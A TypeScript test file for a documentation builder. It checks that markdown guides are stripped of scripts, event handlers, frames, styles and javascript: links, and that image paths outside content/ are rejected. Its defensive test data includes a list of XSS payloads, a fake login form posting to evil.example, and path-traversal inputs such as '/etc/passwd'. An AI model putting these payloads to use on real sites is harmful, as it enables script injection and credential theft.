// Attack: a guide in content/ (a contribution nobody read closely) carries scripts, handlers, frames, styles or links
// that run code, and every owner who opens the documentation gets them.
import { describe, expect, it } from 'vitest';
import { buildDocument } from '#build/content.ts';
import type { DocumentNode } from '#client/content/document.ts';

const FRONT = '---\ntitle: A guide\nsummary: What it says.\norder: 1\n---\n';
const built = (markdown: string) => buildDocument('guides/hostile', FRONT + markdown);

function elementsIn(nodes: readonly DocumentNode[]): [string, Record<string, string>][] {
  return nodes.flatMap((node) => {
    if (typeof node === 'string') return [];
    const [tag, attributes, ...children] = node;
    return [[tag, attributes || {}] as [string, Record<string, string>], ...elementsIn(children)];
  });
}

const HOSTILE = [
  '<script>alert(1)</script>',
  '<script src="https://evil.example/x.js"></script>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/pixel.gif" alt="">',
  '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)">x</a></svg>',
  '<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<form action="https://evil.example"><input name="password"><button>Log in</button></form>',
  '<style>body { display: none }</style><p style="position: fixed; inset: 0">x</p>',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0; url=https://evil.example">',
  '<p onclick="alert(1)" onmouseover=alert(1)>x</p><details open ontoggle=alert(1)>x</details>',
  '[x](javascript:alert(1)) [x](JaVaScRiPt:alert(1)) [x](java\tscript:alert(1)) [x](vbscript:x)',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [x](//evil.example/x)',
  '<a href="javascript:alert(1)" onclick="alert(1)" target="_top">x</a> <javascript:alert(1)>',
  '[x][y]\n\n[y]: javascript:alert(1)',
  '## "><img src=x onerror=alert(1)>\n\ntext',
  '```html "><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```',
  '| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |',
];

const TAGS = new Set(
  `p h2 h3 h4 ul ol li strong em del code pre blockquote table thead tbody tr th td a img br hr`.split(' '),
);
const ATTRIBUTES = new Set(['href', 'src', 'alt', 'width', 'height', 'start', 'data-label', 'id', 'align']);

describe('a document keeps no markup that could run, load or imitate anything', () => {
  it.each(HOSTILE)('%s', (markdown) => {
    const { body } = built(markdown);
    for (const [tag, attributes] of elementsIn(body)) {
      expect(TAGS).toContain(tag);
      for (const [name, value] of Object.entries(attributes)) {
        expect(ATTRIBUTES).toContain(name);
        if (name === 'href')
          expect(value).toMatch(/^(?:https?:\/\/|mailto:|guide:|page:|post:|screen:|#|\/(?!\/)|[\w-]+$)/);
        if (name === 'src') expect(value).toMatch(/^image:/);
      }
    }
  });

  it('code stays what it is: text', () => {
    const { body } = built('```html\n<script>alert(1)</script>\n```');
    expect(body).toEqual([['pre', { 'data-label': 'HTML' }, ['code', 0, '<script>alert(1)</script>']]]);
  });

  it('the plain text of a document has no tag and no attribute [spec 9.25]', () => {
    const { sections } = built(
      'Tom & Jerry <b class="x">bold</b><script>alert(1)</script>\n\n## A `<b>` in a heading\n\n<p title="t">5 < 6</p>',
    );
    expect(sections).toEqual([
      { id: '', title: 'A guide', text: 'Tom & Jerry bold' },
      { id: 'a-b-in-a-heading', title: 'A <b> in a heading', text: '5 < 6' },
    ]);
  });
});

describe('a document that is not right stops the build, with its name', () => {
  it.each([
    ['no front matter', 'Text', 'title'],
    ['a misspelt field', '---\ntitle: A\nsummary: B\norder: 1\nkeyword: [x]\n---\n', 'keyword'],
    ['an order that is no number', '---\ntitle: A\nsummary: B\norder: first\n---\n', 'order'],
  ])('%s', (_what, source, field) => {
    expect(() => buildDocument('guides/x', source)).toThrow(new RegExp(`content/guides/x\\.md: .*${field}`));
  });

  it.each(['https://evil.example/x.png', '/etc/passwd', 'nothing-here.png', '../../package.json'])(
    'a picture that is not one of content/: %s',
    (path) => {
      expect(() => built(`![A picture](${path})`)).toThrow();
    },
  );
});
